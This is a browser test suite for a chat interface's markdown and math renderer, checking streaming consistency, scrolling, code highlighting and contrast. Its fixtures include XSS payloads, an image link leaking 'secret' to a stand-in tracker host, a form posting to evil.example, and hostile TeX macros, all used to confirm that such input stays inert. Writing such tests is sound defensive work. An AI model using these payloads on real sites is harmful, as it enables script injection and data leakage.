"""What the model writes: shown whole, never run, the same while it grows and when it is complete."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.e2e.tab import Tab

pytestmark = pytest.mark.browser

HOSTILE = (
    '<script>document.title="owned"</script>',
    '<img src=x onerror=alert("owned")>',
    '<svg onload=alert("owned")>',
    "[x](javascript:alert('owned'))",
    "[y](data:text/html,<script>alert(1)</script>)",
    '<https://a.example/"onmouseover=alert(1)>',
    "![z](https://tracker.example/p.png?q=secret)",
    '```\n<form action="https://evil.example"><input name=p>\n```',
)
HARMLESS = "Use <channel> and List<String>, a < b, Keep <these rows>."
AS_WRITTEN = (
    "Tickets are $8 and $14.",
    "月费 $212 → $37，年省 ~$2,100",
    "US$ 45 mi, R$ 12",
    "$HOME and $PATH",
    "exactly $5$, from $5-$10",
    "snake_case_name and 5 * 6 * 7",
    HARMLESS,
)
MARKDOWN = """# Title

Some **bold *and italic*** text, `code`, ~~gone~~, [a link](https://example.org/a) and <https://example.org>.

1. one
2. two
   - nested
   ```js
   let a = "<b>";
   ```
3. three

- [ ] loose

- item

> quote
lazy

| a | b |
|---|--:|
| 1 | 2 |

~~~
tilde
~~~
````md
```py
inner
```
````
$$x^2$$ and \\(a+b\\), `$HOME` and $PATH, a_b_c, 5 * 6 * 7, **“中文”**文字

    indented

---
```
open to the end
"""
# Each with the formulas that are set in it.
WITH_FORMULAS = (
    ("so $$x^2$$ it is", 1),
    ("\\(a+b\\) and \\[c_1 * d_2\\] and $e^x$", 3),
    ("A price as a formula: $\\$0.75$, and $8 as money", 1),
    ("$$\na = b\n- c\n$$\nand `$code$`, $$\\frac{1$$", 1),
    ("$\\label{boot} \\mathscr{L} \\vec v \\cancelto{0}{y} \\color{red}{z}$", 1),
)
# Nothing of these becomes a link, a picture, a name in the page, or a formula.
HOSTILE_FORMULAS = (
    "$\\href{javascript:alert(1)}{x}$",
    "$\\includegraphics{https://tracker.example/p.png}$",
    "$\\url{https://tracker.example}$",
    "$\\htmlId{status}{x}$",
    "$\\class{empty}{x}$",
    "$\\style{position:fixed}{x}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$" + "{" * 4000 + "x" + "}" * 4000 + "$",
)
CODE = """```python
def greet(name: str = "you") -> str:  # says hello
    return f"Hello {name}" * 3
```

```js
const veryLong = "%s";
```
""" % ("word " * 60)
# Feeds a text bit by bit, then compares with the view of the whole text.
GROW = """async ([text, step]) => {
  const { MarkdownView } = await import("/static/chat/markdown/view.js");
  const grown = new MarkdownView(document.createElement("div"));
  for (let end = 0; end < text.length; end += step) grown.update(text.slice(0, end), false);
  grown.update(text, true);
  const whole = new MarkdownView(document.createElement("div"));
  whole.update(text, true);
  const { settled } = await import("/static/chat/markdown/math.js");
  await settled();
  return [grown.root.innerHTML, whole.root.innerHTML];
}"""
SHOW = """async (text) => {
  const { MarkdownView } = await import("/static/chat/markdown/view.js");
  const { settled } = await import("/static/chat/markdown/math.js");
  const view = new MarkdownView(document.createElement("div"));
  view.update(text, true);
  await settled();
  const { root } = view;
  return {
    text: root.textContent,
    numFormulas: root.querySelectorAll("math").length,
    unwanted: root.querySelectorAll("img, [id], math [href], [title]").length,
  };
}"""
SHOW_IN_PAGE = """async (text) => {
  const { MarkdownView } = await import("/static/chat/markdown/view.js");
  const root = document.querySelector("#transcript").appendChild(document.createElement("div"));
  new MarkdownView(root).update(text, true);
}"""
# A formula in a paragraph that grows: there as soon as it is closed, and the same element from then on.
GROW_FORMULA = """async () => {
  const { MarkdownView } = await import("/static/chat/markdown/view.js");
  const { formula, settled } = await import("/static/chat/markdown/math.js");
  formula("$y$");
  await settled();
  const { root } = Object.assign(window, { view: new MarkdownView(document.createElement("div")) }).view;
  window.view.update("so $x^2", false);
  const before = root.querySelector("math");
  window.view.update("so $x^2$ and", false);
  const first = root.querySelector("math");
  window.view.update("so $x^2$ and more, $z$ and", false);
  return [before === null, first !== null, root.contains(first)];
}"""
# The lowest contrast of any word of code with its ground.
CONTRAST = """() => {
  const parts = (colour) => colour.match(/[\\d.]+/g).slice(0, 3).map(Number);
  const linear = (part) => (part / 255 <= 0.03928 ? part / 255 / 12.92 : ((part / 255 + 0.055) / 1.055) ** 2.4);
  const weights = [0.2126, 0.7152, 0.0722];
  const light = (colour) => parts(colour).reduce((sum, part, i) => sum + weights[i] * linear(part), 0);
  const ground = light(getComputedStyle(document.querySelector(".code")).backgroundColor);
  const names = ["keyword", "string", "literal", "comment", "type", "title", "name", "added", "removed"];
  return Math.min(...names.map((name) => {
    const node = document.querySelector(".code code").appendChild(document.createElement("span"));
    node.className = `hl-${name}`;
    const ink = light(getComputedStyle(node).color);
    node.remove();
    return (Math.max(ink, ground) + 0.05) / (Math.min(ink, ground) + 0.05);
  }));
}"""


def test_a_text_looks_the_same_however_it_arrived(tab: Tab) -> None:
    for text in (MARKDOWN, MARKDOWN.replace("\n", "\r\n"), "\n\n".join(HOSTILE), HARMLESS):
        for step in (1, 2, 5, 17):
            grown, whole = tab.page.evaluate(GROW, [text, step])
            assert grown == whole, step


@pytest.mark.parametrize("num_chars", [1, 1000])
def test_hostile_text_is_shown_and_never_run(tab: Tab, num_chars: int) -> None:
    text = "\n\n".join([*HOSTILE, HARMLESS])
    pieces = [text[start : start + num_chars] for start in range(0, len(text), num_chars)]
    tab.ask_script(pieces=pieces)
    tab.wait_for_end()
    for _ in range(2):
        shown = tab.answer_text
        assert HARMLESS in shown
        assert HOSTILE[0] in shown
        assert '<form action="https://evil.example">' in shown
        assert tab.page.locator("#transcript :is(img, script, form, iframe)").count() == 0
        links = tab.answer.locator(".text a").evaluate_all("links => links.map(a => [a.protocol, a.rel])")
        assert all(link == ["https:", "noopener nofollow"] for link in links)
        tab.page.reload()
        tab.wait_for_end()


def test_hostile_questions_and_titles_stay_text(tab: Tab) -> None:
    for text in (HOSTILE[1], HARMLESS):
        tab.new_chat()
        tab.ask(text)
        tab.wait_for_end()
        expect(tab.page.locator("article.question .said").last).to_have_text(text)
        expect(tab.page.locator("#conversations li").first).to_contain_text(text[:20])
        assert text in tab.answer_text


def test_money_and_variables_are_shown_as_written(tab: Tab) -> None:
    for text in AS_WRITTEN:
        shown = tab.page.evaluate(SHOW, text)
        assert (shown["text"], shown["numFormulas"]) == (text, 0)
        grown, whole = tab.page.evaluate(GROW, [text, 1])
        assert grown == whole


def test_formulas_are_set_the_same_whole_and_while_they_grow(tab: Tab) -> None:
    for text, num in WITH_FORMULAS:
        shown = tab.page.evaluate(SHOW, text)
        assert (shown["numFormulas"], shown["unwanted"]) == (num, 0), text
        for step in (1, 3):
            grown, whole = tab.page.evaluate(GROW, [text, step])
            assert grown == whole, text
    assert tab.page.evaluate(GROW_FORMULA) == [True, True, True]


def test_a_formula_that_cannot_be_read_or_wants_too_much_shows_its_source(tab: Tab) -> None:
    for text in (*HOSTILE_FORMULAS, "$$\\frac{1$$"):
        shown = tab.page.evaluate(SHOW, text)
        assert shown["unwanted"] == 0, text[:40]
        assert shown["text"] == text or shown["numFormulas"] == 1, text[:40]


def test_long_formulas_and_code_scroll_in_themselves(tab: Tab) -> None:
    tab.page.set_viewport_size({"width": 390, "height": 800})
    long = " + ".join(f"\\frac{{a_{i}}}{{b_{i}}}" for i in range(60))
    tab.ask_script(text=f"$$\n{long}\n$$\n\nin a line \\({long.replace(' + ', '')}\\) too\n\n{CODE}")
    tab.wait_for_end()
    expect(tab.answer.locator("math")).to_have_count(2)
    assert tab.page.evaluate("document.documentElement.scrollWidth") == 390
    assert tab.page.evaluate("document.querySelector('#scroller').scrollWidth") == 390
    reach = "node => node.scrollWidth > node.clientWidth"
    assert tab.answer.locator(".formula.display").evaluate(reach)
    assert tab.answer.locator("p:has(math)").evaluate(reach)
    code = tab.answer.locator(".code", has_text="veryLong")
    assert code.locator("pre").evaluate(reach)
    wrap = code.get_by_role("button", name="Wrap long lines")
    wrap.press("Enter")
    expect(wrap).to_have_attribute("aria-pressed", "true")
    assert not code.locator("pre").evaluate(reach)


def test_code_gets_its_colours_once_and_can_be_read_in_both_themes(tab: Tab) -> None:
    page = tab.page
    tab.ask_script(text=f"{CODE}\nand more words after it, which come late", delay_ms=4)
    block = tab.answer.locator(".code").first
    expect(block.locator(".hl-keyword").first).to_have_text("def")
    assert block.locator("code").inner_text() == CODE.split("```")[1].removeprefix("python\n")
    block.locator("code").evaluate("code => { code.firstChild.marked = true; }")
    tab.wait_for_end()
    assert block.locator("code").evaluate("code => code.firstChild.marked"), "nobody touched it again"
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        assert page.evaluate(CONTRAST) >= 4.5, scheme


def test_code_that_is_very_long_stays_plain(tab: Tab) -> None:
    tab.page.evaluate(SHOW_IN_PAGE, "```python\n" + "x = 1\n" * 4000 + "```\n\n```python\nx = 1\n```\n")
    blocks = tab.page.locator("#transcript .code")
    blocks.last.scroll_into_view_if_needed()
    expect(blocks.last.locator(".hl-literal")).to_have_count(1)
    blocks.first.scroll_into_view_if_needed()
    assert blocks.first.locator("[class^=hl-]").count() == 0


def test_the_view_follows_until_the_reader_scrolls_up(tab: Tab) -> None:
    lines = "\n\n".join(f"Paragraph number {i}" for i in range(80))
    tab.ask_script(text=lines, delay_ms=15)
    tab.wait_for_text("number 30")
    scroller = "document.querySelector('#scroller')"
    at_end = f"() => {scroller}.scrollHeight - {scroller}.scrollTop - {scroller}.clientHeight < 30"
    tab.page.wait_for_function(at_end)
    tab.page.mouse.move(600, 300)
    tab.page.mouse.wheel(0, -300)
    tab.wait_for_text("number 40")
    place = tab.page.evaluate(f"{scroller}.scrollTop")
    tab.wait_for_end()
    assert tab.page.evaluate(f"{scroller}.scrollTop") == place
    tab.page.get_by_role("button", name="To the end").click()
    tab.page.wait_for_function(at_end)


def test_a_window_of_another_size_shows_the_end_again_to_whoever_was_there(tab: Tab) -> None:
    tab.ask_script(
        text="\n\n".join("So many words that a narrow window needs more lines. " * 4 for _ in range(20))
    )
    tab.wait_for_end()
    scroller = "document.querySelector('#scroller')"
    at_end = f"() => {scroller}.scrollHeight - {scroller}.scrollTop - {scroller}.clientHeight < 30"
    tab.page.wait_for_function(at_end)
    tab.page.set_viewport_size({"width": 390, "height": 500})
    tab.page.wait_for_function(at_end)
    tab.page.evaluate(f"{scroller}.scrollTop = 200")
    expect(tab.page.get_by_role("button", name="To the end")).to_be_visible()
    tab.page.set_viewport_size({"width": 700, "height": 600})
    tab.page.wait_for_function("() => innerWidth === 700")
    assert not tab.page.evaluate(at_end), "a reader who went up is left alone"
